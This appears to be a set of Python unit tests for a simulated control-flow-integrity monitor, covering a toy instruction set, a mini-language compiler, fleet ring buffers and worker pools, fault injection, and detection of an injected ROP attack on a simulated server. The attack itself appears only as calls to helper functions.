            other_cycles=50.0,
            checks=10,
        )

    def test_hw_decoder_scales_decode(self):
        model = HardwareExtensionModel(hw_decoder=True)
        projected = model.apply(self._stats())
        ratio = costs.HW_DECODE_CYCLES_PER_BYTE / costs.FAST_DECODE_CYCLES_PER_BYTE
        assert projected.decode_cycles == pytest.approx(500.0 * ratio)
        assert projected.trace_cycles == 100.0

    def test_all_extensions_compound(self):
        model = HardwareExtensionModel(
            hw_decoder=True, multi_cr3=True, hw_cfi_logic=True
        )
        projected = model.apply(self._stats())
        assert projected.total_cycles < self._stats().total_cycles / 2

    def test_project_overhead(self):
        model = HardwareExtensionModel(hw_decoder=False)
        stats = self._stats()
        assert project_overhead(stats, 7000.0, model) == pytest.approx(
            stats.total_cycles / 7000.0
        )
        assert project_overhead(stats, 0.0, model) == 0.0

    def test_original_stats_untouched(self):
        stats = self._stats()
        HardwareExtensionModel().apply(stats)
        assert stats.decode_cycles == 500.0
