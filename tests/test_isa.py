"""Unit tests for the ISA: encoding, assembly, disassembly."""

import pytest
from hypothesis import given, strategies as st

from repro.isa import (
    A,
    AssemblyError,
    Cond,
    DecodeError,
    Insn,
    Label,
    Op,
    asm,
    decode_at,
    disassemble_range,
    encode,
    format_insn,
    instruction_length,
    is_cofi,
)
from repro.isa.instructions import OPERAND_LAYOUT
from repro.isa.registers import NUM_REGS, R0, R1, SP, register_name


class TestEncoding:
    def test_roundtrip_simple(self):
        insn = Insn(Op.MOV_RI, rd=3, imm=0xDEADBEEF)
        raw = encode(insn)
        decoded, length = decode_at(raw, 0)
        assert length == len(raw)
        assert decoded.op is Op.MOV_RI
        assert decoded.rd == 3
        assert decoded.imm == 0xDEADBEEF

    def test_negative_immediates(self):
        insn = Insn(Op.ADDI, rd=1, imm=-100)
        decoded, _ = decode_at(encode(insn), 0)
        assert decoded.imm == -100

    def test_negative_displacement(self):
        insn = Insn(Op.LOAD, rd=2, rb=SP, off=-64)
        decoded, _ = decode_at(encode(insn), 0)
        assert decoded.off == -64

    def test_invalid_opcode(self):
        with pytest.raises(DecodeError):
            decode_at(b"\xff\x00\x00", 0)

    def test_truncated(self):
        raw = encode(Insn(Op.MOV_RI, rd=0, imm=7))
        with pytest.raises(DecodeError):
            decode_at(raw[:-1], 0)

    def test_bad_register_rejected(self):
        raw = bytes([int(Op.PUSH), 200])
        with pytest.raises(DecodeError):
            decode_at(raw, 0)

    def test_bad_condition_rejected(self):
        raw = bytes([int(Op.JCC), 99, 0, 0, 0, 0])
        with pytest.raises(DecodeError):
            decode_at(raw, 0)

    def test_offset_beyond_end(self):
        with pytest.raises(DecodeError):
            decode_at(b"", 0)

    def test_lengths_match_encoding(self):
        for op in Op:
            insn = Insn(op)
            assert len(encode(insn)) == instruction_length(op)

    def test_register_operand_range_checked_on_encode(self):
        with pytest.raises(ValueError):
            encode(Insn(Op.PUSH, rs=-1))

    @given(
        op=st.sampled_from(sorted(Op, key=int)),
        rd=st.integers(0, NUM_REGS - 1),
        rs=st.integers(0, NUM_REGS - 1),
        rb=st.integers(0, NUM_REGS - 1),
        imm=st.integers(-(2**31), 2**31 - 1),
        off=st.integers(-(2**31), 2**31 - 1),
        rel=st.integers(-(2**31), 2**31 - 1),
        cc=st.integers(0, 5),
    )
    def test_roundtrip_property(self, op, rd, rs, rb, imm, off, rel, cc):
        insn = Insn(op, rd=rd, rs=rs, rb=rb, imm=imm, off=off, rel=rel, cc=cc)
        raw = encode(insn)
        decoded, length = decode_at(raw, 0)
        assert length == len(raw)
        assert decoded.op is op
        for field in OPERAND_LAYOUT[op]:
            attr = {"imm32": "imm", "imm64": "imm", "off32": "off",
                    "rel32": "rel"}.get(field, field)
            assert getattr(decoded, attr) == getattr(insn, attr)


class TestAssembler:
    def test_forward_and_backward_labels(self):
        code, symbols = asm(
            [
                Label("start"),
                A.mov(R0, 0),
                Label("loop"),
                A.addi(R0, 1),
                A.cmpi(R0, 5),
                A.jcc(Cond.LT, "loop"),
                A.jmp("end"),
                A.nop(),
                Label("end"),
                A.halt(),
            ]
        )
        assert symbols["start"] == 0
        insns = [(off, i) for off, i, _ in disassemble_range(code)]
        jcc = next(i for _, i in insns if i.op is Op.JCC)
        assert jcc.rel < 0  # backward
        jmp = next(i for _, i in insns if i.op is Op.JMP)
        assert jmp.rel > 0  # forward, skipping the nop

    def test_duplicate_label(self):
        with pytest.raises(AssemblyError):
            asm([Label("x"), Label("x")])

    def test_undefined_label(self):
        with pytest.raises(AssemblyError):
            asm([A.jmp("nowhere")])

    def test_label_on_non_branch_rejected(self):
        with pytest.raises(AssemblyError):
            asm([Label("x"), Insn(Op.ADD, label="x")])

    def test_base_shifts_symbols(self):
        _, symbols = asm([A.nop(), Label("x"), A.halt()], base=0x1000)
        assert symbols["x"] == 0x1001

    def test_lea_resolves_label(self):
        code, symbols = asm([A.lea(R1, "target"), A.halt(), Label("target")])
        insn, length = decode_at(code, 0)
        assert length + insn.rel + 0 == symbols["target"]


class TestDisassembler:
    def test_linear_sweep_covers_everything(self):
        items = [A.mov(R0, 1), A.push(R0), A.pop(R1), A.ret()]
        code, _ = asm(items)
        decoded = list(disassemble_range(code))
        assert [i.op for _, i, _ in decoded] == [
            Op.MOV_RI,
            Op.PUSH,
            Op.POP,
            Op.RET,
        ]
        assert sum(length for _, _, length in decoded) == len(code)

    def test_format_insn(self):
        assert format_insn(Insn(Op.MOV_RR, rd=1, rs=2)) == "mov_rr r1, r2"
        assert "sp" in format_insn(Insn(Op.PUSH, rs=SP))
        text = format_insn(Insn(Op.JCC, cc=int(Cond.NE), rel=10), ip=0)
        assert "ne" in text

    def test_register_names(self):
        assert register_name(SP) == "sp"
        assert register_name(0) == "r0"
        with pytest.raises(ValueError):
            register_name(99)


class TestCoFIPredicate:
    def test_cofi_ops(self):
        assert is_cofi(Op.JMP)
        assert is_cofi(Op.RET)
        assert is_cofi(Op.SYSCALL)
        assert not is_cofi(Op.ADD)
        assert Insn(Op.CALLR).is_cofi()
        assert not Insn(Op.MOV_RI).is_cofi()


class TestCond:
    @pytest.mark.parametrize(
        "cond,zf,sf,expected",
        [
            (Cond.EQ, True, False, True),
            (Cond.EQ, False, False, False),
            (Cond.NE, False, True, True),
            (Cond.LT, False, True, True),
            (Cond.LT, True, False, False),
            (Cond.LE, True, False, True),
            (Cond.GT, False, False, True),
            (Cond.GT, True, False, False),
            (Cond.GE, False, False, True),
            (Cond.GE, False, True, False),
        ],
    )
    def test_truth_table(self, cond, zf, sf, expected):
        assert cond.holds(zf, sf) is expected
