"""Tests for auto-protection of multi-process applications."""

import pytest

from repro.lang import (
    Call,
    Const,
    Func,
    Global,
    If,
    Program,
    Rel,
    Return,
    SyscallExpr,
    Var,
    Let,
)
from repro.osmodel import Kernel, O_CREAT, O_WRONLY, ProcessState, Sys
from repro.pipeline import FlowGuardPipeline
from repro.workloads import build_libsim

LIBS = {"libsim.so": build_libsim()}


def forking_app():
    """A master that forks one worker; both perform write endpoints."""
    prog = Program("prefork")
    prog.add_needed("libsim.so")
    for symbol in ("fork", "wait", "open", "write", "close", "strlen",
                   "exit"):
        prog.import_symbol(symbol)
    prog.add_string("worker_path", "/out/worker")
    prog.add_string("master_path", "/out/master")
    prog.add_string("payload", "data!")
    prog.add_func(
        Func(
            "emit",
            ["path"],
            [
                Let("fd", Call("open", [Var("path"),
                                        Const(O_CREAT | O_WRONLY)])),
                Call("write", [Var("fd"), Global("payload"), Const(5)]),
                Call("close", [Var("fd")]),
                Return(Const(0)),
            ],
        )
    )
    prog.add_func(
        Func(
            "main",
            [],
            [
                Let("pid", Call("fork", [])),
                If(
                    Rel("==", Var("pid"), Const(0)),
                    [
                        Call("emit", [Global("worker_path")]),
                        Return(Const(7)),
                    ],
                ),
                Let("status", Call("wait", [])),
                Call("emit", [Global("master_path")]),
                Return(Var("status")),
            ],
        )
    )
    prog.set_entry("main")
    return prog.build()


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "prefork", forking_app(), LIBS, corpus=[b""], mode="stdin",
    )


class TestAutoProtect:
    def test_fork_child_gets_protected(self, pipeline):
        kernel = Kernel()
        monitor = pipeline.auto_deploy(kernel)
        proc = kernel.spawn("prefork")
        kernel.run(proc)
        assert proc.exit_code == 7  # child status propagated
        assert kernel.fs.exists("/out/worker")
        assert kernel.fs.exists("/out/master")
        # Both the master and the forked worker were protected...
        assert len(monitor._protected) == 2  # noqa: SLF001
        protected = list(monitor._protected.values())  # noqa: SLF001
        for pp in protected:
            assert pp.stats.checks > 0, pp.process.name
        # ...with distinct CR3 filters (the §6 multi-CR3 scenario).
        cr3s = {pp.config.cr3_match for pp in protected}
        assert len(cr3s) == 2
        assert monitor.detections == []

    def test_worker_flow_is_checked_not_just_master(self, pipeline):
        kernel = Kernel()
        monitor = pipeline.auto_deploy(kernel)
        proc = kernel.spawn("prefork")
        kernel.run(proc)
        child = next(
            p for p in kernel.processes.values() if p.pid != proc.pid
        )
        child_stats = monitor.stats_for(child)
        assert child_stats.checks >= 1
        assert child_stats.trace_cycles > 0

    def test_manual_deploy_does_not_follow_forks(self, pipeline):
        kernel = Kernel()
        monitor, proc = pipeline.deploy(kernel)
        kernel.run(proc)
        assert len(monitor._protected) == 1  # noqa: SLF001

    def test_auto_protect_covers_existing_processes(self, pipeline):
        kernel = Kernel()
        kernel.register_program("prefork", pipeline.exe,
                                pipeline.libraries)
        proc = kernel.spawn("prefork")  # spawned before the monitor
        monitor = pipeline.auto_deploy(kernel)
        assert monitor.protected_for(proc) is not None
