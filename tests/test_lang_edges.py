"""Edge-case tests for the mini-language compiler."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.binary import Loader
from repro.cpu import Executor, Machine, PROT_READ, PROT_WRITE
from repro.cpu.machine import to_signed
from repro.isa.registers import R0, SP
from repro.lang import (
    AddrOf,
    Assign,
    BinOp,
    Break,
    Call,
    CallPtr,
    CompileError,
    Const,
    Continue,
    Func,
    FuncRef,
    Global,
    If,
    Let,
    LocalArray,
    Load,
    Program,
    Rel,
    Return,
    Store,
    Switch,
    Var,
    While,
)

STACK_TOP = 0x7FFF0000


def run_program(prog, max_steps=2_000_000):
    image = Loader().load(prog.build())
    image.memory.map_region(
        STACK_TOP - 0x20000, 0x20000, PROT_READ | PROT_WRITE
    )
    machine = Machine(image.memory)
    machine.ip = image.entry_address
    machine.set_reg(SP, STACK_TOP - 64)
    cpu = Executor(machine)
    cpu.run(max_steps)
    assert cpu.machine.halted
    return to_signed(cpu.machine.reg(R0))


def eval_main(body, extra=()):
    prog = Program("edge")
    for func in extra:
        prog.add_func(func)
    prog.add_func(Func("main", [], body))
    prog.set_entry("main")
    return run_program(prog)


class TestExpressionEdges:
    def test_deeply_nested_expression(self):
        expr = Const(1)
        for _ in range(30):
            expr = BinOp("+", expr, Const(1))
        assert eval_main([Return(expr)]) == 31

    def test_call_in_condition(self):
        is_even = Func(
            "is_even", ["n"],
            [Return(Rel("==", BinOp("%", Var("n"), Const(2)), Const(0)))],
        )
        body = [
            If(Call("is_even", [Const(4)]),
               [Return(Const(1))], [Return(Const(2))]),
        ]
        assert eval_main(body, [is_even]) == 1

    def test_callptr_target_is_call_result(self):
        pick = Func("pick", [], [Return(FuncRef("forty"))])
        forty = Func("forty", [], [Return(Const(40))])
        body = [Return(CallPtr(Call("pick", []), []))]
        assert eval_main(body, [pick, forty]) == 40

    def test_nested_callptr_in_args(self):
        one = Func("one", [], [Return(Const(1))])
        addf = Func("addf", ["a", "b"],
                    [Return(BinOp("+", Var("a"), Var("b")))])
        body = [
            Let("f", FuncRef("one")),
            Return(Call("addf",
                        [CallPtr(Var("f"), []),
                         CallPtr(Var("f"), [])])),
        ]
        assert eval_main(body, [one, addf]) == 2

    def test_store_with_global_address(self):
        prog = Program("edge")
        prog.add_zeros("slot", 8)
        prog.add_func(
            Func("main", [],
                 [Store(Global("slot"), Const(99)),
                  Return(Load(Global("slot")))])
        )
        prog.set_entry("main")
        assert run_program(prog) == 99

    def test_byte_store_truncates(self):
        body = [
            LocalArray("b", 8),
            Store(AddrOf("b"), Const(0x1FF), byte=True),
            Return(Load(AddrOf("b"), byte=True)),
        ]
        assert eval_main(body) == 0xFF


class TestControlEdges:
    def test_single_case_switch(self):
        body = [
            Switch(Const(0), {0: [Return(Const(5))]},
                   default=[Return(Const(-1))]),
        ]
        assert eval_main(body) == 5

    def test_switch_negative_keys(self):
        def pick(n):
            return [
                Switch(Const(n),
                       {-1: [Return(Const(10))], 0: [Return(Const(20))],
                        1: [Return(Const(30))]},
                       default=[Return(Const(0))]),
            ]
        assert eval_main(pick(-1)) == 10
        assert eval_main(pick(1)) == 30
        assert eval_main(pick(-7)) == 0

    def test_switch_fall_to_end_without_return(self):
        body = [
            Let("x", Const(0)),
            Switch(Const(1),
                   {0: [Assign("x", Const(5))],
                    1: [Assign("x", Const(6))]},
                   default=[Assign("x", Const(7))]),
            Return(Var("x")),
        ]
        assert eval_main(body) == 6

    def test_nested_loops_with_break_continue(self):
        body = [
            Let("total", Const(0)),
            Let("i", Const(0)),
            While(
                Rel("<", Var("i"), Const(5)),
                [
                    Assign("i", BinOp("+", Var("i"), Const(1))),
                    Let("j", Const(0)),
                    While(
                        Const(1),
                        [
                            Assign("j", BinOp("+", Var("j"), Const(1))),
                            If(Rel(">", Var("j"), Var("i")), [Break()]),
                            If(Rel("==", Var("j"), Const(2)),
                               [Continue()]),
                            Assign("total",
                                   BinOp("+", Var("total"), Const(1))),
                        ],
                    ),
                ],
            ),
            Return(Var("total")),  # sum over i of (i minus the j==2 skip)
        ]
        assert eval_main(body) == (1 + 1 + 2 + 3 + 4)

    def test_while_condition_with_call(self):
        dec = Func("dec", ["n"], [Return(BinOp("-", Var("n"), Const(1)))])
        body = [
            Let("n", Const(5)),
            Let("steps", Const(0)),
            While(
                Rel(">", Var("n"), Const(0)),
                [
                    Assign("n", Call("dec", [Var("n")])),
                    Assign("steps", BinOp("+", Var("steps"), Const(1))),
                ],
            ),
            Return(Var("steps")),
        ]
        assert eval_main(body, [dec]) == 5

    def test_return_inside_switch_inside_loop(self):
        body = [
            Let("i", Const(0)),
            While(
                Const(1),
                [
                    Assign("i", BinOp("+", Var("i"), Const(1))),
                    Switch(BinOp("%", Var("i"), Const(3)),
                           {0: [Return(Var("i"))]},
                           default=[]),
                ],
            ),
        ]
        assert eval_main(body) == 3


class TestCompileErrors:
    def test_six_params_rejected(self):
        with pytest.raises(CompileError):
            prog = Program("x")
            prog.add_func(
                Func("f", [f"p{i}" for i in range(6)],
                     [Return(Const(0))])
            )

    def test_continue_outside_loop(self):
        with pytest.raises(CompileError):
            eval_main([Continue()])

    def test_shadowing_param_rejected(self):
        with pytest.raises(CompileError):
            eval_main_with_param()

    def test_empty_switch_rejected(self):
        with pytest.raises(CompileError):
            eval_main([Switch(Const(0), {})])


def eval_main_with_param():
    prog = Program("x")
    prog.add_func(
        Func("f", ["a"], [LocalArray("a", 8), Return(Const(0))])
    )
    prog.build()


@given(values=st.lists(st.integers(-1000, 1000), min_size=1, max_size=6))
@settings(max_examples=20, deadline=None)
def test_sum_compiles_correctly(values):
    """Differential property: compiled summation == Python summation."""
    body = [Let("acc", Const(0))]
    for value in values:
        body.append(Assign("acc", BinOp("+", Var("acc"), Const(value))))
    body.append(Return(Var("acc")))
    assert eval_main(body) == sum(values)
