"""Fleet mode tests: rings, worker pool, service, quarantine, telemetry.

The acceptance scenario from the fleet issue lives here: an 8-process /
4-worker fleet running two server workloads, one of which receives an
injected ROP exploit — the violator must be quarantined (killed and
isolated) while the rest of the fleet finishes clean, with the cycle
ledger reconciling exactly.
"""

import pytest

from repro import telemetry
from repro.attacks import build_rop_request, run_recon
from repro.experiments.common import (
    libraries,
    seed_server_fs,
    server_pipeline,
    server_requests,
)
from repro.experiments.fleet_scaling import build_fleet
from repro.fleet import (
    CheckTask,
    FleetConfig,
    FleetService,
    ProcessRing,
    RingPolicy,
    SimulatedWorkerPool,
    percentile,
)
from repro.ipt import PSB_PATTERN, PacketError, ToPA, ToPARegion, fast_decode
from repro.ipt.packets import encode_tnt
from repro.workloads import build_nginx, build_vdso


def make_ring(policy, regions=(8, 8)):
    """A ProcessRing over a tiny two-region ToPA, PMI wired up."""
    holder = []
    topa = ToPA(
        [ToPARegion(regions[0]), ToPARegion(regions[1], interrupt=True)],
        pmi_callback=lambda: holder[0].on_pmi(),
    )
    ring = ProcessRing(topa=topa, policy=policy)
    holder.append(ring)
    return ring


class TestProcessRing:
    def test_clean_drain_is_lossless(self):
        ring = make_ring(RingPolicy.STALL, regions=(64, 64))
        ring.topa.write(PSB_PATTERN + b"\x00\x00")
        result = ring.drain()
        assert result.data == PSB_PATTERN + b"\x00\x00"
        assert not result.resynced
        assert result.overwritten == 0
        assert ring.resyncs == 0
        assert ring.drains == 1

    def test_stall_pmi_asserts_interrupt_line(self):
        class Core:
            stop_requested = False

        core = Core()
        ring = make_ring(RingPolicy.STALL)
        ring.executor = core
        ring.topa.write(bytes(16))  # fill both regions -> PMI
        assert ring.pmi_count == 1
        assert ring.stall_requested
        assert core.stop_requested
        ring.drain()
        assert not ring.stall_requested
        ring.begin_stall(100.0, 250.0)
        assert ring.stalled
        ring.end_stall(250.0)
        assert not ring.stalled
        assert not core.stop_requested
        assert ring.stall_cycles == 150.0
        assert ring.stalls == 1

    def test_lossy_pmi_requests_async_drain(self):
        ring = make_ring(RingPolicy.LOSSY)
        ring.topa.write(bytes(16))
        assert ring.pmi_count == 1
        assert ring.drain_requested
        assert not ring.stall_requested  # lossy never pauses the process
        ring.drain()
        assert not ring.drain_requested

    def test_lossy_resync_lands_mid_packet(self):
        # PAD | TNT(2B) | PSB(8B) | TNT*3 | PAD = 18 bytes into a
        # 16-byte ring: drop-oldest overwrites the PAD and the TNT
        # *header*, leaving the TNT payload byte at the snapshot head.
        # Raw decode of that torn buffer must fail; the drain's forced
        # re-sync drops the tail byte and recovers at the PSB.
        ring = make_ring(RingPolicy.LOSSY)
        tnt = encode_tnt((True,) * 6)
        stream = b"\x00" + tnt + PSB_PATTERN + tnt * 3 + b"\x00"
        assert len(stream) == 18
        ring.topa.write(stream)
        assert ring.pmi_count == 1
        assert ring.pending_loss() == 2

        torn = ring.topa.snapshot()
        assert torn[0] == tnt[1]  # a packet tail, not a packet header
        with pytest.raises(PacketError):
            fast_decode(torn)

        result = ring.drain()
        assert result.resynced
        assert result.overwritten == 2
        assert result.resync_dropped == 1
        assert result.data.startswith(PSB_PATTERN)
        assert fast_decode(result.data).packets
        assert ring.resyncs == 1
        assert ring.overwritten_bytes == 2
        assert ring.resync_dropped_bytes == 1

    def test_unwrapped_drain_never_resyncs(self):
        # The interrupt region filling is not loss: as long as nothing
        # was overwritten, the drain must not drop a prefix.
        ring = make_ring(RingPolicy.LOSSY)
        stream = b"\x00\x00" + PSB_PATTERN + encode_tnt((True,) * 6)
        assert len(stream) == 12
        ring.topa.write(stream)
        result = ring.drain()
        assert not result.resynced
        assert result.overwritten == 0
        assert result.data == stream  # leading PAD bytes survive


def _task(task_id=0, enqueued_at=0.0, slices=(), serial=0.0):
    return CheckTask(
        task_id=task_id,
        pid=1,
        kind="pmi-drain",
        syscall_nr=-1,
        enqueued_at=enqueued_at,
        slices=list(slices),
        serial_cycles=serial,
    )


class TestSimulatedWorkerPool:
    def test_slices_run_in_parallel(self):
        pool = SimulatedWorkerPool(3)
        task = _task(slices=[100.0, 100.0, 100.0], serial=10.0)
        pool.dispatch(task)
        assert task.finished_at == 110.0  # slices overlap, serial after

        solo = SimulatedWorkerPool(1)
        same = _task(slices=[100.0, 100.0, 100.0], serial=10.0)
        solo.dispatch(same)
        assert same.finished_at == 310.0
        # Parallelism moves cycles, it never creates or destroys them.
        assert pool.busy_total == solo.busy_total == 310.0

    def test_ties_break_to_lowest_worker_index(self):
        pool = SimulatedWorkerPool(4)
        pool.dispatch(_task(task_id=0, slices=[5.0]))
        pool.dispatch(_task(task_id=1, slices=[3.0]))
        assert pool.busy_cycles == [5.0, 3.0, 0.0, 0.0]
        assert pool.tasks_run == [1, 1, 0, 0]

    def test_serial_phase_follows_last_slice(self):
        pool = SimulatedWorkerPool(2)
        task = _task(slices=[10.0, 50.0], serial=5.0)
        pool.dispatch(task)
        assert task.started_at == 0.0
        assert task.finished_at == 55.0
        assert task.lag == 55.0
        # The serial combine runs on the worker that decoded the final
        # slice.
        assert pool.free_at == [10.0, 55.0]

    def test_schedule_is_deterministic(self):
        def run():
            pool = SimulatedWorkerPool(3)
            ends = []
            for i in range(20):
                ends.append(
                    pool.dispatch(
                        _task(
                            task_id=i,
                            enqueued_at=float(i * 3),
                            slices=[float(7 + i % 5), 4.0],
                            serial=float(i % 3),
                        )
                    )
                )
            return ends, pool.free_at, pool.busy_cycles, pool.tasks_run

        assert run() == run()

    def test_percentile_nearest_rank(self):
        assert percentile([], 99) == 0.0
        assert percentile([5.0], 99) == 5.0
        assert percentile([3.0, 1.0, 2.0], 50) == 2.0
        values = [float(v) for v in range(1, 101)]
        assert percentile(values, 50) == 50.0
        assert percentile(values, 99) == 99.0
        assert percentile(values, 100) == 100.0


@pytest.fixture(scope="module")
def small_fleet_result():
    return build_fleet(2, 2, sessions=1).run()


class TestFleetService:
    def test_clean_fleet_finishes_clean(self, small_fleet_result):
        result = small_fleet_result
        assert result.detections == 0
        assert result.quarantines == []
        assert result.tasks > 0
        assert len(result.processes) == 2
        for row in result.processes:
            assert row["state"] == "exited"
            assert not row["quarantined"]
            assert row["checks"] > 0
            assert row["quanta"] > 1  # actually time-sliced

    def test_cycle_ledger_reconciles_exactly(self, small_fleet_result):
        accounting = small_fleet_result.accounting
        assert accounting["exact"], accounting
        assert accounting["busy_cycles"] + accounting[
            "intercept_cycles"
        ] == pytest.approx(accounting["stats_cycles"], rel=1e-9)
        assert sum(small_fleet_result.worker_busy) == pytest.approx(
            accounting["busy_cycles"], rel=1e-9
        )

    def test_same_seed_same_everything(self):
        first = build_fleet(2, 2, sessions=1).run()
        second = build_fleet(2, 2, sessions=1).run()
        assert first.schedule_digest == second.schedule_digest
        assert first.to_dict() == second.to_dict()

    def test_more_workers_cut_tail_lag(self):
        one = build_fleet(8, 1, sessions=1).run()
        four = build_fleet(8, 4, sessions=1).run()
        # Lossy rings + unbounded queue: the submitted work is the same,
        # so the process schedule is identical across worker counts —
        # only the checker pool changes, and the lag tail must shrink.
        assert one.schedule_digest == four.schedule_digest
        assert one.tasks == four.tasks
        assert four.lag["p99"] < one.lag["p99"]
        assert four.lag["mean"] < one.lag["mean"]
        assert four.makespan <= one.makespan

    def test_stall_pays_cycles_lossy_pays_bytes(self):
        stall = build_fleet(
            4, 2, sessions=1, policy=RingPolicy.STALL,
            ring_bytes=1024, max_queue_depth=64,
        ).run()
        lossy = build_fleet(
            4, 2, sessions=1, policy=RingPolicy.LOSSY,
            ring_bytes=1024, max_queue_depth=64,
        ).run()
        # §4 trade-off under buffer pressure: stall is lossless but
        # pays drain latency as overhead; lossy keeps running but drops
        # bytes and must re-sync at the next PSB.
        assert stall.overhead > lossy.overhead
        assert stall.stall_cycles > 0
        assert sum(row["stalls"] for row in stall.processes) > 0
        assert lossy.stall_cycles == 0.0
        assert sum(row["resyncs"] for row in lossy.processes) > 0
        assert sum(
            row["overwritten_bytes"] for row in lossy.processes
        ) > 0


def _mixed_fleet(processes=2, sessions=1, **cfg):
    service = FleetService(FleetConfig(**cfg))
    seed_server_fs(service.kernel)
    for index in range(processes):
        name = ("nginx", "exim")[index % 2]
        service.add_workload(
            server_pipeline(name), server_requests(name, sessions)
        )
    return service


class TestThreadedDecode:
    def test_threads_mode_matches_simulated_exactly(self):
        sim = _mixed_fleet(workers=2, decode_mode="simulated").run()
        thr = _mixed_fleet(workers=2, decode_mode="threads").run()
        # The thread pool is an execution backend only: every simulated
        # observable is identical.
        assert thr.schedule_digest == sim.schedule_digest
        assert thr.lag == sim.lag
        assert thr.accounting == sim.accounting
        assert sim.threaded_decode is None
        assert thr.threaded_decode["snapshots"] > 0
        assert thr.threaded_decode["segments"] >= thr.threaded_decode[
            "snapshots"
        ]
        d_sim, d_thr = sim.to_dict(), thr.to_dict()
        for d in (d_sim, d_thr):
            d["fleet"].pop("threaded_decode")
            d["fleet"].pop("config")
        assert d_sim == d_thr

    def test_unknown_decode_mode_rejected(self):
        with pytest.raises(ValueError):
            FleetService(FleetConfig(decode_mode="quantum"))


class TestFleetTelemetry:
    def test_reconcile_includes_worker_ledger(self):
        with telemetry.capture():
            service = _mixed_fleet(workers=2)
            result = service.run()
            report = service.reconcile()
        assert result.accounting["exact"]
        assert report["exact"], report
        assert report["fleet_workers"]["ok"]
        assert report["fleet_workers"]["busy_cycles"] == pytest.approx(
            result.accounting["busy_cycles"], rel=1e-9
        )

    def test_tampered_worker_ledger_fails_reconcile(self):
        with telemetry.capture():
            service = _mixed_fleet(workers=1)
            service.run()
            service.dispatcher.intercept_cycles += 123.0
            report = service.reconcile()
        assert not report["exact"]
        assert not report["fleet_workers"]["ok"]

    def test_reconcile_none_when_disabled(self):
        service = _mixed_fleet(workers=1)
        service.run()
        assert service.reconcile() is None


@pytest.fixture(scope="module")
def attack_fleet():
    """The acceptance scenario: 8 processes, 4 workers, two server
    workloads, a ROP exploit injected mid-stream into one nginx."""
    service = FleetService(FleetConfig(workers=4, ring_bytes=8192))
    seed_server_fs(service.kernel)
    recon = run_recon(build_nginx(), libraries(), vdso=build_vdso())
    rop = build_rop_request(recon)
    attacked_pid = None
    for index in range(8):
        name = ("nginx", "exim")[index % 2]
        requests = list(server_requests(name, 2))
        if index == 0:
            requests.insert(len(requests) // 2, rop)
        proc = service.add_workload(server_pipeline(name), requests)
        if index == 0:
            attacked_pid = proc.pid
    return attacked_pid, service.run()


class TestFleetQuarantine:
    def test_violator_is_quarantined(self, attack_fleet):
        attacked_pid, result = attack_fleet
        assert result.detections >= 1
        assert attacked_pid in result.quarantined_pids
        event = result.quarantines[0]
        assert event.pid == attacked_pid
        assert event.name == "nginx"
        # Asynchronous enforcement: the verdict lands strictly after
        # the check was enqueued (the detection window).
        assert event.detected_at > event.enqueued_at
        row = next(
            r for r in result.processes if r["pid"] == attacked_pid
        )
        assert row["quarantined"]

    def test_rest_of_fleet_finishes_clean(self, attack_fleet):
        attacked_pid, result = attack_fleet
        assert result.quarantined_pids == [attacked_pid]
        clean = [
            r for r in result.processes if r["pid"] != attacked_pid
        ]
        assert len(clean) == 7
        for row in clean:
            assert row["state"] == "exited"
            assert not row["quarantined"]
            assert row["checks"] > 0

    def test_attack_run_ledger_still_exact(self, attack_fleet):
        _, result = attack_fleet
        assert result.accounting["exact"], result.accounting
