"""The resilience plane: deterministic fault injection, exact
retry/backoff, graceful degradation, and the public API facade.

The contracts under test, per subsystem:

- **faults** — seeded plans are bit-reproducible: every site draws from
  its own RNG stream, so two injectors running the same plan produce
  identical fire sequences and identical mangled drain bytes, and extra
  draws on one site never perturb another.
- **retry** — the backoff schedule is closed-form and asserted to the
  cycle, including the dispatcher's actual dispatch times under
  scheduled crashes, hedged hangs, and dead-lettering.
- **degradation** — a corrupted PSB segment never lands in the
  content-addressed ``SegmentDecodeCache``; the decode re-syncs at the
  next PSB and never fabricates a violation; fast-path fallbacks
  deliver the slow-path oracle's verdict (clean traffic passes, the
  attack matrix still detects).
- **ledger** — every downgrade reconciles exactly against the
  ``resilience.*`` telemetry counters and the dispatcher's wasted-cycle
  entry.
- **facade** — ``repro.api`` imports clean under
  ``-W error::DeprecationWarning`` while the legacy package-root shims
  keep working and warn.
"""

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from repro import telemetry
from repro.api import RunConfig
from repro.attacks import build_rop_request, run_recon
from repro.fleet.dispatcher import FleetDispatcher
from repro.fleet.rings import RingPolicy
from repro.fleet.service import FleetConfig, FleetService
from repro.fleet.workers import CheckTask, SimulatedWorkerPool
from repro.ipt.fast_decoder import psb_offsets
from repro.ipt.packets import PSB_PATTERN, PacketError
from repro.ipt.segment_cache import SegmentDecodeCache
from repro.itccfg import FlowSearchIndex
from repro.monitor.fastpath import FastPathChecker, Verdict
from repro.monitor.policy import FlowGuardPolicy
from repro.osmodel import Kernel, ProcessState
from repro.pipeline import FlowGuardPipeline
from repro.resilience import (
    FAULT_SITES,
    DegradationLedger,
    FaultInjector,
    FaultPlan,
    FaultSite,
    RetryPolicy,
)
from repro.workloads import build_libsim, build_nginx, build_vdso, nginx_request

LIBS = {"libsim.so": build_libsim()}

SEG_ENTRIES = 64
EDGE_ENTRIES = 1024


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        LIBS,
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            nginx_request("/x", "POST", b"small-body"),
            nginx_request("/y", "HEAD"),
        ],
        mode="socket",
    )


@pytest.fixture(scope="module")
def recon():
    return run_recon(build_nginx(), LIBS, vdso=build_vdso())


@pytest.fixture(scope="module")
def trace(pipeline):
    """A real captured nginx ToPA snapshot plus the process image."""
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    monitor, proc = pipeline.deploy(kernel)
    for _ in range(4):
        proc.push_connection(nginx_request("/index.html"))
    kernel.run(proc)
    pp = monitor.protected_for(proc)
    pp.encoder.flush()
    return bytes(pp.topa.snapshot()), proc.image


class TestFaultPlanDeterminism:
    """Same plan, same seed => bit-identical fault stream."""

    def test_fire_streams_bit_identical(self):
        plan = FaultPlan.standard_mix(seed=5)
        a, b = FaultInjector(plan), FaultInjector(plan)
        seq_a = [a.fire(site) for _ in range(100) for site in FAULT_SITES]
        seq_b = [b.fire(site) for _ in range(100) for site in FAULT_SITES]
        assert seq_a == seq_b
        assert a.stats() == b.stats()
